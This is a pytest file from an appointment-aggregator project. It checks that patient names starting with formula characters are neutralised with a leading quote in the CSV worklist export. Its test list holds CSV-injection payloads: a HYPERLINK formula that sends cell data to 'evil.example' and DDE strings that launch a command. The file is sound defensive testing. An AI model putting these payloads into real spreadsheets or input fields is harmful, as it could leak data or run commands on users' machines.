"""Issue 12 item 1: a patient name that a spreadsheet would run as a formula never starts a CSV cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from aggregator.cli import app
from aggregator.overnight.appointments import COLUMNS
from aggregator.overnight.worklist import FORMULA_STARTS, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1", "  =1+1", " @x"]
# The importer strips a cell's surrounding whitespace and refuses control characters inside names, so the
# CSV round trip uses the ones a list can carry in: what is left still starts with a formula character.
IMPORTABLE = [value for value in HOSTILE if "\r" not in value]


def formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE)
def test_spreadsheet_safe_quotes_formula_starts(value):
    safe = spreadsheet_safe(value)
    assert safe == "'" + value and not formula_like(safe)


@pytest.mark.parametrize("value", ["Okafor", "O'Neil", "Smith-Jones", "2026-11-30", "25.00", "", None, "a=b"])
def test_spreadsheet_safe_leaves_ordinary_text_alone(value):
    assert spreadsheet_safe(value) == ("" if value is None else value)


def test_worklist_csv_neutralises_formula_names_from_an_imported_list(tmp_path: Path):
    lines = io.StringIO()
    writer = csv.writer(lines, lineterminator="\n")
    writer.writerow(COLUMNS)
    for number, name in enumerate(IMPORTABLE, start=1):
        writer.writerow([f"A{number}", "2026-11-30T09:15", name, name, "1980-02-03", "ridgeline",
                         f"RM12345678{number}", "", "", ""])
    appointments = tmp_path / "day.csv"
    appointments.write_text(lines.getvalue(), encoding="utf-8")
    data_dir = str(tmp_path / "data")
    runner = CliRunner()
    imported = runner.invoke(app, ["appointments", "import", str(appointments), "--data-dir", data_dir])
    assert imported.exit_code == 0, imported.output
    exported = runner.invoke(app, ["worklist", "--date", "2026-11-30", "--csv", "--data-dir", data_dir])
    assert exported.exit_code == 0, exported.output
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert len(rows) == 1 + len(IMPORTABLE)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if formula_like(cell)]
    names = {row[rows[0].index("patient_name")] for row in rows[1:]}
    assert "'-2+3, -2+3" in names and "'=1+1, =1+1" in names  # the value is kept, marked as text
